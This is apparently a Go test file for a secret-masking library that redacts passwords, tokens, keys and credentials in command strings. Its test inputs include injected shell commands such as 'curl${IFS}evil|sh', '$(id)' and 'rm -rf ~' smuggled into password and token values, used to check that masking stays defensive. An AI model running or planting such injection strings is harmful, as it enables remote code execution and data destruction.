package authority

import (
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

const (
	ghToken  = "ghp_0123456789abcdefghijABCDEFGHIJ0123"
	oaiKey   = "sk-proj-Ab3dEf6hIj9kLm2oPq5sTu8wXy1zAb4dEf7h"
	jwt      = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	pemBlock = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nQyNTUxOQAAACD0\n-----END OPENSSH PRIVATE KEY-----"
)

func TestMaskSecrets(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		// NAME=value
		{"--password=hunter2", "--password=***"},
		{"mysql --user=root --password=hunter2 db", "mysql --user=root --password=*** db"},
		{"PGPASSWORD=x psql -h db", "PGPASSWORD=*** psql -h db"},
		{"GITHUB_TOKEN=" + ghToken + " git push", "GITHUB_TOKEN=*** git push"},
		{"env AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls", "env AWS_SECRET_ACCESS_KEY=*** aws s3 ls"},
		{"--api-key=abc", "--api-key=***"},
		{"apiKey=abc", "apiKey=***"},
		{"DB_PWD=x", "DB_PWD=***"},
		{"STRIPE_KEY=sk_live_abcdefgh123", "STRIPE_KEY=***"},
		{`X_TOKEN="abc" cmd`, `X_TOKEN="***" cmd`},
		{"curl 'https://api.example.com/v1?access_token=abc123&page=2'", "curl 'https://api.example.com/v1?access_token=***&page=2'"},
		{"npm config set //registry.npmjs.org/:_authToken=npm_abc", "npm config set //registry.npmjs.org/:_authToken=***"},
		// Name: value
		{"curl -H 'Authorization: Bearer abc.def-ghi' https://x", "curl -H 'Authorization: Bearer ***' https://x"},
		{`curl -H "X-Api-Key: k123" https://x`, `curl -H "X-Api-Key: ***" https://x`},
		{"curl -H Authorization:Basic dXNlcjpwYXNz https://x", "curl -H Authorization:Basic *** https://x"},
		{"git -c http.extraHeader='Authorization: token abc' fetch", "git -c http.extraHeader='Authorization: token ***' fetch"},
		{"curl -H 'PRIVATE-TOKEN: glpat-abc' https://gitlab", "curl -H 'PRIVATE-TOKEN: ***' https://gitlab"},
		{"password: hunter2", "password: ***"},
		{`curl -d '{"password": "pw", "user": "u"}'`, `curl -d '{"password": "***", "user": "u"}'`},
		{`{"apiKey":"k"}`, `{"apiKey":"***"}`},
		// --option value
		{"docker login --password hunter2 -u me", "docker login --password *** -u me"},
		{"openssl enc -pass pass:hunter2 -in f", "openssl enc -pass *** -in f"},
		{"gh auth login --with-token --hostname h", "gh auth login --with-token --hostname h"},
		// URLs
		{"git clone https://user:s3cret@github.com/x/y", "git clone https://user:***@github.com/x/y"},
		{"git push https://oauth2:glpat-aaaaaaaaaaaaaaaaaaaa@gitlab.com/x.git", "git push https://oauth2:***@gitlab.com/x.git"},
		{"git clone https://0123456789abcdef0123456789abcdef@github.com/x", "git clone https://***@github.com/x"},
		{"DATABASE_URL=postgres://app:pw@db:5432/app", "DATABASE_URL=postgres://app:***@db:5432/app"},
		// Shapes
		{"echo " + ghToken + " | gh auth login --with-token", "echo ghp_*** | gh auth login --with-token"},
		{"export OPENAI=" + oaiKey, "export OPENAI=sk-***"},
		{"aws --key AKIAIOSFODNN7EXAMPLE", "aws --key AKIA***"},
		{"curl -b session=" + jwt, "curl -b session=eyJ***"},
		{"printf '%s' '" + pemBlock + "' > k", "printf '%s' '-----BEGIN OPENSSH PRIVATE KEY-----\n***\n***\n-----END OPENSSH PRIVATE KEY-----' > k"},
		// Never hiding what a shell would run: the value ends at the first
		// character a shell could act on.
		{"X_TOKEN=a;curl${IFS}evil|sh", "X_TOKEN=***;curl${IFS}evil|sh"},
		{`--password="p@ss$(id)"`, `--password="***$(id)"`},
		{"echo x'; --password='abc; rm -rf ~; echo '", "echo x'; --password='***; rm -rf ~; echo '"},
		{"TOKEN=x`id`", "TOKEN=***`id`"},
		{"--password='a b'", "--password='*** b'"},
	} {
		if got := MaskSecrets(c.in); got != c.want {
			t.Errorf("MaskSecrets(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestMaskSecretsLeavesOrdinaryText(t *testing.T) {
	for _, s := range []string{
		"git push origin main",
		"/home/u/project/src/main.go",
		"sort --key=2 file",
		"sort -k 2 --key 3",
		`git commit --author="A U Thor <a@b.c>" -m x`,
		"npm run auth:test",
		"llm --max-tokens=100 --tokenizer=bert",
		"tool --token-file=/run/secrets/t --password-file /x",
		"docker login --password-stdin -u me",
		"PWD=/home/u OLDPWD=/tmp make",
		"AUTHOR=me make",
		"X_TOKEN=$TOKEN cmd",
		"pip install scikit-learn sk-video-processing-library-extra",
		"ssh://git@github.com/x/y https://user@example.com/",
		"KEY=a",
		"echo ghp_short",
		"a=b c:d e-f g_h",
		"",
	} {
		if got := MaskSecrets(s); got != s {
			t.Errorf("MaskSecrets(%q) = %q, want it unchanged", s, got)
		}
	}
}

func TestMaskArgv(t *testing.T) {
	for _, c := range []struct{ in, want []string }{
		{[]string{"docker", "login", "--password", "hunter2"}, []string{"docker", "login", "--password", "***"}},
		{[]string{"mysql", "--password=x", "db"}, []string{"mysql", "--password=***", "db"}},
		{[]string{"tool", "--token", "-v"}, []string{"tool", "--token", "-v"}},
		{[]string{"tool", "--token", "a b"}, []string{"tool", "--token", "*** b"}},
		{[]string{"curl", "-H", "Authorization: Bearer xyz", "https://x"}, []string{"curl", "-H", "Authorization: Bearer ***", "https://x"}},
		{[]string{"git", "status"}, []string{"git", "status"}},
	} {
		if got := MaskArgv(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("MaskArgv(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	in := []string{"a", "b"}
	if got := MaskArgv(in); &got[0] != &in[0] {
		t.Error("MaskArgv copied an argv with nothing to mask")
	}
}

func TestSecretName(t *testing.T) {
	for _, c := range []struct {
		name         string
		strong, weak bool
	}{
		{"password", true, false}, {"PGPASSWORD", true, false}, {"GITHUB_TOKEN", true, false},
		{"X-Auth-Token", true, false}, {"Authorization", true, false}, {"api_key", true, false},
		{"APIKey", true, false}, {"AWS_SECRET_ACCESS_KEY", true, false}, {"clientSecret", true, false},
		{"key", false, true}, {"STRIPE_KEY", false, true},
		{"author", false, false}, {"max_tokens", false, false}, {"tokenizer", false, false},
		{"token_file", false, false}, {"PWD", false, false}, {"requestId", false, false},
		{"passthrough", false, false}, {"path", false, false},
	} {
		s, w := secretName(c.name)
		if s != c.strong || w != c.weak {
			t.Errorf("secretName(%q) = %v,%v, want %v,%v", c.name, s, w, c.strong, c.weak)
		}
	}
}

// unsafeBytes is s reduced to the bytes a shell can act on.
func unsafeBytes(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if unsafeByte(s[i]) {
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func FuzzMaskSecrets(f *testing.F) {
	for _, s := range []string{
		"--password=hunter2", "curl -H 'Authorization: Bearer abc' https://u:p@h/x?token=t&a=b",
		"X_TOKEN=a;b", ghToken, oaiKey, jwt, pemBlock, `{"password": "x"}`, "--token a --token",
		"https://" + strings.Repeat("a", 30) + "@h", "***", "TOKEN=***", "a=", ":", "-----BEGIN PRIVATE KEY-----",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := MaskSecrets(s)
		// Nothing a shell acts on is removed, added or moved.
		if unsafeBytes(out) != unsafeBytes(s) {
			t.Fatalf("MaskSecrets(%q) = %q changed the shell-visible bytes", s, out)
		}
		if utf8.ValidString(s) && !utf8.ValidString(out) {
			t.Fatalf("MaskSecrets(%q) = %q is not UTF-8", s, out)
		}
		if again := MaskSecrets(out); again != out {
			t.Fatalf("not idempotent: %q → %q → %q", s, out, again)
		}
	})
}

// FuzzMaskSecretsFindsInjected puts a secret in each form MaskSecrets
// promises to know, after arbitrary text, and requires it gone.
func FuzzMaskSecretsFindsInjected(f *testing.F) {
	f.Add("echo x;", "hunter22", uint8(0))
	f.Add("'", "abcdEFGH1234", uint8(3))
	f.Add("--password", "token", uint8(1))
	f.Fuzz(func(t *testing.T, prefix, secret string, form uint8) {
		secret = strings.Map(func(r rune) rune {
			if r < 128 && alnum(byte(r)) {
				return r
			}
			return -1
		}, secret)
		if len(secret) < 4 || strings.Contains(prefix, secret) || secret == strings.Repeat("*", len(secret)) {
			return
		}
		var s string
		switch form % 5 {
		case 0:
			s = prefix + " --password=" + secret
		case 1:
			s = prefix + " MY_API_TOKEN=" + secret + ";"
		case 2:
			s = prefix + " Authorization: Bearer " + secret
		case 3:
			s = prefix + " https://user:" + secret + "@example.com/x"
		case 4:
			s = prefix + " --secret " + secret
		}
		if out := MaskSecrets(s); strings.Contains(out[len(prefix):], secret) {
			t.Fatalf("MaskSecrets(%q) = %q still holds %q", s, out, secret)
		}
	})
}

func BenchmarkMaskSecrets(b *testing.B) {
	for _, c := range []struct{ name, s string }{
		{"path", "/home/user/project/internal/server/handler_test.go"},
		{"command", "git -C /home/user/project push --force-with-lease origin feature/x"},
		{"secret", "curl -H 'Authorization: Bearer abc.def' https://user:pw@example.com/?token=t"},
	} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				MaskSecrets(c.s)
			}
		})
	}
}
